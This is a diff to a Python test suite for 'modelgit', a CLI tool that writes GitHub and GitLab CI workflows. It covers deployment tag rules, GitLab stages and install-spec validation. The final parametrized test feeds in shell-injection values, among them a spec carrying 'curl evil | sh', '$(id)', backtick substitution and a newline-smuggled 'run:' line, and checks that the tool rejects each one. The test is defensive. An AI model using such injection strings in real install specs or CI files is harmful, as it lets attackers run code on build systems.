@@ -75,7 +75,7 @@ def test_github_workflows_validate_and_pass_zizmor(registry, auth):
     assert all("${{" not in s.get("run", "") for job in release["jobs"].values()
                for s in job["steps"])  # fmt: skip
     install = next(s["run"] for s in steps if s.get("name") == "Install modelgit")
-    assert '"modelgit[s3,k8s]==' in install
+    assert '"modelgit[k8s,s3]==' in install
     run = next(s for s in steps if s.get("name") == "Release")
     if auth == "oidc":
         assert job["permissions"]["id-token"] == "write"
@@ -279,3 +279,127 @@ def test_no_site_job_without_the_flag(registry):
     result = runner.invoke(app, ["ci", "init", "--site", "--force", "-C", str(registry)])
     assert result.exit_code == 0, result.output
     assert "wrote .github/workflows/modelgit-site.yml" in result.stdout
+
+
+def environment_rule(pattern: str, tag: str) -> bool:
+    """GitHub's deployment tag rules (Ruby File.fnmatch as documented): `*` stops at `/`."""
+    regex = "".join("[^/]*" if c == "*" else re.escape(c) for c in pattern)
+    return re.fullmatch(regex, tag) is not None
+
+
+def test_site_set_up_names_the_pages_environment_tag_rule(registry):
+    result = runner.invoke(app, ["ci", "init", "--site", "-C", str(registry)])
+    assert result.exit_code == 0, result.output
+    header = (registry / ".github/workflows/modelgit-site.yml").read_text().split("\nname:")[0]
+    header = " ".join(line.strip("# ") for line in header.splitlines())  # the comment's words
+    for text in (result.stdout, header):
+        assert "Settings > Environments > github-pages" in text
+        assert "not allowed to deploy to github-pages due to environment protection" in text
+        assert "No restriction" in text and "Settings > Pages > Source" in text
+    # The rules the README and the comment give let every plain registry tag the site builds on
+    # through GitHub's environment check (monorepo tags need a rule per `/`, as they say).
+    rules = re.findall(r"`(\*[^`]*)`", header.split("Deployment branches and tags")[1])
+    assert {"*@v*", "*#*", "*@deprecated"} <= set(rules)
+    plain = [t for t in SITE_TRIGGERS if "/" not in t]
+    assert [t for t in plain if not any(environment_rule(r, t) for r in rules)] == []
+    assert environment_rule("*/*@v*", "svc/nlp=intent@v0.1.0")
+    # A tag push runs the workflow of the tagged commit: said where the user looks.
+    assert "next: commit and push these files on the default branch" in result.stdout
+    assert "runs the workflow file of the tagged commit" in result.stdout
+    assert "by hand" in result.stdout and "by hand from the default branch" in header
+    release = (registry / ".github/workflows/modelgit-release.yml").read_text()
+    assert "as it is in the tagged commit" in release.split("\nname:")[0]
+    plain_init = modelgit.ci_init(registry, "github", force=True)
+    assert not any("github-pages" in step for step in plain_init.next_steps)
+
+
+def test_gitlab_jobs_name_default_stages_and_pages_installs_only_modelgit(registry):
+    with_remote(registry, "s3://models/store")
+    (registry / ".gitlab-ci.yml").write_text(
+        "stages: [lint, test]\ninclude:\n  - local: .gitlab/modelgit.gitlab-ci.yml\n"
+    )
+    result = modelgit.ci_init(registry, "gitlab", apply=True, site=True)
+    files = [str(registry / ".gitlab/modelgit.gitlab-ci.yml"), str(registry / ".gitlab-ci.yml")]
+    checked = tool("check-jsonschema", "--builtin-schema", "vendor.gitlab-ci", *files)
+    assert checked.returncode == 0, checked.stdout + checked.stderr
+    jobs = yaml.safe_load((registry / ".gitlab/modelgit.gitlab-ci.yml").read_text())
+    stages = {name: job.get("stage") for name, job in jobs.items() if not name.startswith(".")}
+    assert stages == {
+        "modelgit-release": "build", "modelgit-catch-up": "build",
+        "modelgit-apply-production": "deploy", "modelgit-apply-staging": "deploy",
+        "pages": "deploy", "modelgit-report": "test",
+    }  # fmt: skip
+    # The user's own `stages:` replaces GitLab's defaults: ci init names what it lacks.
+    assert any("lacks build, deploy" in step for step in result.next_steps), result.next_steps
+    (registry / ".gitlab-ci.yml").write_text(
+        "include:\n  - local: .gitlab/modelgit.gitlab-ci.yml\n"
+    )
+    again = modelgit.ci_init(registry, "gitlab", apply=True, site=True, force=True)
+    assert not any("lacks" in step for step in again.next_steps)
+    # The site reads tags only: no DVC plugin, no Kubernetes validation.
+    [install] = jobs["pages"]["before_script"]
+    assert re.fullmatch(r'python -m pip install "modelgit==[^"\[]+"', install), install
+    assert "k8s" in jobs[".modelgit"]["before_script"][0]
+    # Run by hand like GitHub's workflow_dispatch: a web pipeline on the default branch.
+    web = [r["if"] for r in jobs["pages"]["rules"] if "CI_PIPELINE_SOURCE" in r["if"]]
+    assert web == ['$CI_PIPELINE_SOURCE == "web" && $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH']
+    assert any("MODELGIT_SINCE" in step for step in again.next_steps)
+
+
+GIT_SPEC = "modelgit @ git+https://github.com/acme/modelgit@" + "0123456789abcdef" * 2 + "01234567"
+
+
+def installed(run: str) -> str:
+    """The requirement a `python -m pip install "..."` line hands to pip, as the shell reads it."""
+    import shlex
+
+    words = shlex.split(run)
+    assert words[:4] == ["python", "-m", "pip", "install"] and len(words) == 5, words
+    return words[4]
+
+
+def test_install_spec_points_every_job_at_another_build(registry):
+    from packaging.requirements import Requirement
+
+    with_remote(registry, "s3://models/store")
+    result = runner.invoke(app, ["ci", "init", "--site", "--apply", "--install-spec", GIT_SPEC,
+                                 "--json", "-C", str(registry)])  # fmt: skip
+    assert result.exit_code == 0, result.output
+    assert json.loads(result.stdout)["install"] == GIT_SPEC.replace(
+        "modelgit", "modelgit[k8s,s3]", 1
+    )
+    files = [str(registry / path) for path in json.loads(result.stdout)["written"]]
+    checked = tool("check-jsonschema", "--builtin-schema", "vendor.github-workflows", *files)
+    assert checked.returncode == 0, checked.stdout + checked.stderr
+    audit = tool("zizmor", "--offline", "--persona", "pedantic", "--format", "json", *files)
+    assert audit.returncode == 0 and json.loads(audit.stdout) == [], audit.stdout + audit.stderr
+    url = GIT_SPEC.split(" @ ")[1]
+    for name, extras in (("release", {"k8s", "s3"}), ("report", {"k8s", "s3"}), ("site", set())):
+        workflow = yaml.safe_load((registry / f".github/workflows/modelgit-{name}.yml").read_text())
+        runs = [s["run"] for job in workflow["jobs"].values() for s in job.get("steps", [])
+                if "pip install" in s.get("run", "")]  # fmt: skip
+        requirement = Requirement(installed(runs[0]))
+        assert (requirement.name, requirement.url, requirement.extras) == ("modelgit", url, extras)
+    modelgit.ci_init(registry, "gitlab", site=True, install_spec="modelgit==0.2.0")
+    jobs = yaml.safe_load((registry / ".gitlab/modelgit.gitlab-ci.yml").read_text())
+    assert installed(jobs[".modelgit"]["before_script"][0]) == "modelgit[k8s,s3]==0.2.0"
+    assert installed(jobs["pages"]["before_script"][0]) == "modelgit==0.2.0"
+
+
+@pytest.mark.parametrize(
+    ("spec", "message"),
+    [
+        ('modelgit==0.1.0"; curl evil | sh; "', "without shell characters"),
+        ("modelgit @ git+https://x/$(id)", "without shell characters"),
+        ("modelgit==0.1.0\nrun: evil", "without shell characters"),
+        ("modelgit`id`", "without shell characters"),
+        ("modelgit==0.1.0; python_version>'3'", "without shell characters"),
+        ("modelgit===", "is not a pip requirement"),
+        ("numpy==1.26", "must install modelgit, not numpy"),
+    ],
+)
+def test_an_unsafe_install_spec_is_one_line_and_writes_nothing(registry, spec, message):
+    result = runner.invoke(app, ["ci", "init", "--install-spec", spec, "-C", str(registry)])
+    assert result.exit_code == 2, result.output
+    assert message in result.stderr and result.stderr.count("\n") == 1, result.stderr
+    assert not (registry / ".github").exists()
